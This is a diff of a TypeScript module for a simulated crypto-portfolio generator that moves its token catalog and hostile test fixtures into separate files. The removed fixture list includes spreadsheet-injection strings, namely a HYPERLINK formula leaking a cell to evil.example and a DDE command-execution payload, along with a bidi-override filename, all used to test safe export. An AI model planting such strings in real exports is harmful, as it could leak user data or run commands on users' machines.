@@ -1,149 +1,43 @@
+import {
+  ALL_TOKENS,
+  CATEGORIES,
+  type CategorySpec,
+  type Leg,
+  MEMOS,
+  PROTOCOLS,
+  STABLES,
+  TOKENS,
+  TOTAL_WEIGHT,
+  type Token,
+} from './catalog.ts';
 import { formatCents, formatUnits, formatUnitsTrimmed } from './decimal.ts';
+import {
+  HOSTILE_AMOUNTS,
+  HOSTILE_EXTRA_KEYS,
+  HOSTILE_TEXTS,
+  HOSTILE_VALUES,
+  isHostileProfile,
+} from './hostile.ts';
 import { guid, hash32, mix32, Rng, stringHash32 } from './random.ts';
-import { STORY_TOKENS, type StoryTx, writeStory } from './story.ts';
-import type { SimulatedProfile } from './types.ts';
+import { type StoryTx, writeStory } from './story.ts';
+import type { CanonicalTransaction, SimulatedProfile } from './types.ts';
+
+export { ALL_TOKENS, CATEGORIES, PROTOCOLS, TOKENS } from './catalog.ts';
+export {
+  HOSTILE_AMOUNTS,
+  HOSTILE_EXTRA_KEYS,
+  HOSTILE_LONG_LENGTH,
+  HOSTILE_TEXTS,
+  HOSTILE_VALUES,
+  type HostileProfile,
+  isHostileProfile,
+} from './hostile.ts';
 
 /**
  * The seeded data of one simulated portfolio. Nothing per transaction is stored: transaction `i`
  * is rebuilt from (seed, profile name, i) on demand, and its date is non-decreasing in `i`, so a
  * date window is two binary searches and index order is the default sort (date asc, id asc).
  */
-
-interface Token {
-  symbol: string;
-  decimals: number;
-  /** Reference price in US cents per whole token (an integer). */
-  priceCents: number;
-}
-
-/** Tokens of the generated data. */
-export const TOKENS: readonly Token[] = [
-  { symbol: 'ETH', decimals: 18, priceCents: 300_000 },
-  { symbol: 'USDC', decimals: 6, priceCents: 100 },
-  { symbol: 'BTC', decimals: 8, priceCents: 6_000_000 },
-  { symbol: 'WBTC', decimals: 8, priceCents: 5_990_000 },
-  { symbol: 'DAI', decimals: 18, priceCents: 100 },
-  { symbol: 'SOL', decimals: 9, priceCents: 15_000 },
-  { symbol: 'stETH', decimals: 18, priceCents: 299_000 },
-  { symbol: 'USDT', decimals: 6, priceCents: 100 },
-];
-
-/** Every token: the generated ones (same indices), then the demo story's own (fiat dollars, a spam token). */
-export const ALL_TOKENS: readonly Token[] = [...TOKENS, ...STORY_TOKENS];
-
-/** DeFi protocols of the generated data (non-DeFi transactions carry `null`). */
-export const PROTOCOLS = ['Aave V3', 'Compound V3', 'Curve', 'Lido', 'Uniswap V3'] as const;
-
-type Leg = -1 | 1;
-
-interface Variant {
-  subType: string;
-  legs: readonly Leg[];
-  protocols: readonly (string | null)[];
-  /** Token symbols per leg; a random distinct token when absent. */
-  tokens?: readonly string[];
-}
-
-interface CategorySpec {
-  category: string;
-  weight: number;
-  variants: readonly Variant[];
-}
-
-const STABLES = ['USDC', 'USDT', 'DAI'];
-
-/** The GAPS.md `cf` vocabulary; `type` uses the same word, `subType` refines it. */
-export const CATEGORIES: readonly CategorySpec[] = [
-  {
-    category: 'trade',
-    weight: 30,
-    variants: [
-      { subType: 'swap', legs: [-1, 1], protocols: ['Uniswap V3', 'Curve', null] },
-      { subType: 'buy', legs: [-1, 1], protocols: [null] },
-      { subType: 'sell', legs: [-1, 1], protocols: [null] },
-    ],
-  },
-  {
-    category: 'transfer',
-    weight: 20,
-    variants: [
-      { subType: 'deposit', legs: [1], protocols: [null] },
-      { subType: 'withdrawal', legs: [-1], protocols: [null] },
-      { subType: 'internal', legs: [-1], protocols: [null] },
-    ],
-  },
-  {
-    category: 'income',
-    weight: 8,
-    variants: [
-      { subType: 'airdrop', legs: [1], protocols: [null] },
-      { subType: 'interest', legs: [1], protocols: ['Aave V3', 'Compound V3'] },
-      { subType: 'reward', legs: [1], protocols: ['Lido'], tokens: ['stETH'] },
-    ],
-  },
-  { category: 'expense', weight: 5, variants: [{ subType: 'payment', legs: [-1], protocols: [null] }] },
-  {
-    category: 'staking',
-    weight: 8,
-    variants: [
-      { subType: 'stake', legs: [-1, 1], protocols: ['Lido'], tokens: ['ETH', 'stETH'] },
-      { subType: 'unstake', legs: [-1, 1], protocols: ['Lido'], tokens: ['stETH', 'ETH'] },
-      { subType: 'delegate', legs: [-1], protocols: [null], tokens: ['SOL'] },
-    ],
-  },
-  {
-    category: 'lending',
-    weight: 8,
-    variants: [
-      { subType: 'supply', legs: [-1], protocols: ['Aave V3', 'Compound V3'] },
-      { subType: 'borrow', legs: [1], protocols: ['Aave V3', 'Compound V3'] },
-      { subType: 'repay', legs: [-1], protocols: ['Aave V3', 'Compound V3'] },
-      { subType: 'withdraw', legs: [1], protocols: ['Aave V3', 'Compound V3'] },
-    ],
-  },
-  {
-    category: 'liquidity',
-    weight: 6,
-    variants: [
-      { subType: 'add-liquidity', legs: [-1, -1], protocols: ['Uniswap V3', 'Curve'] },
-      { subType: 'remove-liquidity', legs: [1, 1], protocols: ['Uniswap V3', 'Curve'] },
-    ],
-  },
-  {
-    category: 'bridge',
-    weight: 4,
-    variants: [
-      { subType: 'bridge-out', legs: [-1], protocols: [null] },
-      { subType: 'bridge-in', legs: [1], protocols: [null] },
-    ],
-  },
-  {
-    category: 'fee',
-    weight: 6,
-    variants: [{ subType: 'gas', legs: [-1], protocols: [null], tokens: ['ETH'] }],
-  },
-  {
-    category: 'nft',
-    weight: 3,
-    variants: [
-      { subType: 'mint', legs: [-1], protocols: [null], tokens: ['ETH'] },
-      { subType: 'purchase', legs: [-1], protocols: [null], tokens: ['ETH'] },
-      { subType: 'sale', legs: [1], protocols: [null], tokens: ['ETH'] },
-    ],
-  },
-  { category: 'other', weight: 2, variants: [{ subType: 'adjustment', legs: [1], protocols: [null] }] },
-];
-
-const TOTAL_WEIGHT = CATEGORIES.reduce((sum, c) => sum + c.weight, 0);
-
-const MEMOS = [
-  'Payroll, March',
-  'He said "thanks"',
-  '=1+1 looks like a formula',
-  'Rent\nsecond line',
-  'Ünïcödé ✓ memo',
-  'Invoice 2025-0042',
-];
 
 /** First generated date: 2023-01-01T00:00:00Z (seconds). */
 const START_SEC = Date.UTC(2023, 0, 1) / 1000;
@@ -184,12 +78,14 @@ export function isoInstant(ms: number): string {
   return new Date(ms).toISOString();
 }
 
+/** An account of a simulated portfolio. */
 export interface Account {
   id: string;
   name: string;
   type: string;
 }
 
+/** A ledger of a simulated portfolio, in one of its accounts. */
 export interface Ledger {
   id: string;
   accountId: string;
@@ -222,157 +118,7 @@ export interface TxCore {
   noValue?: true;
 }
 
-/** A transaction in the canonical default layout of GAPS.md (plus extra fields). */
-export type CanonicalTransaction = Record<string, unknown>;
-
-/**
- * A profile whose transactions carry hostile data ({@link HOSTILE_TEXTS}, {@link HOSTILE_AMOUNTS},
- * {@link HOSTILE_VALUES}, {@link HOSTILE_EXTRA_KEYS}): the same dates, count, deletions and filter
- * facts (category, protocol, tokens for `cf`, `p`, `t`) as a normal profile of that name, but the
- * text, amounts and extra fields of each transaction replaced. Not among the default profiles.
- */
-export interface HostileProfile extends SimulatedProfile {
-  hostile: true;
-}
-
-/** Whether `profile` asks for hostile data. */
-export function isHostileProfile(profile: SimulatedProfile): profile is HostileProfile {
-  return (profile as Partial<HostileProfile>).hostile === true;
-}
-
-/** Length of the long hostile strings: past Excel's 32,767 characters per cell. */
-export const HOSTILE_LONG_LENGTH = 40_000;
-
-/** Every C0 control character and DEL, in order. */
-const ALL_CONTROLS = `${Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('')}\u007f`;
-
-/**
- * Text a hostile service may send in any text field: spreadsheet formulas and DDE, every control
- * character, CSV and XML syntax, OOXML escape look-alikes, strings past Excel's cell limit,
- * emoji, right-to-left text, bidi overrides, combining marks, lone surrogates, empty text.
- */
-export const HOSTILE_TEXTS: readonly string[] = [
-  '=1+2',
-  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
-  "=cmd|' /C calc'!A0",
-  '+SUM(A1:A9)',
-  '-2+3',
-  '@SUM(1+1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  "'=1+1",
-  "''@x",
-  "'plain quote",
-  ' =1+1',
-  '＝1+1',
-  '-',
-  '+',
-  '@',
-  '=',
-  ALL_CONTROLS,
-  `nul\u0000inside`,
-  'bell\u0007 and escape \u001b[31mred\u001b[0m',
-  'line one\nline two',
-  'carriage\rreturn',
-  'crlf\r\nline',
-  'tab\tinside\t',
-  'del\u007f',
-  'vertical\u000btab and form\u000cfeed',
-  '"quoted", comma; semicolon\ttab',
-  '"',
-  '""',
-  '  padded both sides  ',
-  ' ',
-  '',
-  '<b>&amp;</b> ]]> <!-- x -->',
-  '_x0041_ is not A',
-  '_x005F_x0041_',
-  '_xD800_',
-  '🚀💰🇩🇪👩‍👩‍👧',
-  'مرحبا بالعالم',
-  'שלום',
-  '\u202eevil.exe\u202c',
-  '\u2066isolate\u2069',
-  'e\u0301\u0301\u0301 Z\u0351\u0337a\u0338l\u0334g\u0335o',
-  '東京 Zürich Ελλάδα',
-  '\u200bzero\u200dwidth\ufeff',
-  '\ufeffbom first',
-  'lone high \ud800 surrogate',
-  'lone low \udc00 surrogate',
-  '\udfff\ud800',
-  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
-  'nbsp\u00a0and line\u2028separator\u2029',
-  '\u0085next line and C1 \u009b',
-  '0012',
-  '1e5',
-  '1,5',
-  'TRUE',
-  '2025-01-01',
-  'null',
-  `=${'L'.repeat(HOSTILE_LONG_LENGTH - 1)}`,
-  `${'🚀'.repeat(HOSTILE_LONG_LENGTH / 2)}`,
-  `${'ab\u0000'.repeat(HOSTILE_LONG_LENGTH / 3)}`,
-];
-
-/**
- * Token quantities: 30 significant digits, more than 18 decimals, negative zero, exponents (some
- * past a spreadsheet number's range). The export keeps them exact (plain decimals; in XLSX the
- * `(exact)` companion holds the digits).
- */
-export const HOSTILE_AMOUNTS: readonly string[] = [
-  '123456789012345.123456789012345',
-  '-123456789012345.123456789012345',
-  '0.000000000000123456789012345678901234',
-  '-999999999999999999999999999999',
-  '1234567890123456789012345678.90',
-  '-0',
-  '-0.000',
-  '0.000000000000000000',
-  '1e-7',
-  '-1.5E+3',
-  '2.5e-30',
-  '1E0',
-  '7.000000000000000001',
-  '00012.50',
-  '1e400',
-  '-1e-400',
-];
-
-/** Fiat values and fees: at most 15 significant digits (Excel holds them exactly) in odd forms. */
-export const HOSTILE_VALUES: readonly string[] = [
-  '-0',
-  '-0.000',
-  '1e-7',
-  '1.5E+3',
-  '-2.5e-3',
-  '1E+2',
-  '999999999999999',
-  '-0.000000000000001',
-  '4210.55',
-  '0.10',
-  '100',
-  '-7.5',
-];
-
-/**
- * Names of unknown extra fields (each becomes an extra column): formula-like, control characters,
- * dots and brackets that look like paths, non-ASCII. `nest` holds a nested object whose path
- * collides with the literal key `nest.inner`.
- */
-export const HOSTILE_EXTRA_KEYS: readonly string[] = [
-  '=extra()',
-  '@extra',
-  '-extra',
-  'tab\textra',
-  'ключ',
-  '🚀',
-  'nest.inner',
-  'a[0]',
-  '',
-  '__proto__',
-  'constructor',
-];
+export type { CanonicalTransaction } from './types.ts';
 
 /** One simulated portfolio: accounts, ledgers and a lazily generated transaction list. */
 export class Portfolio {
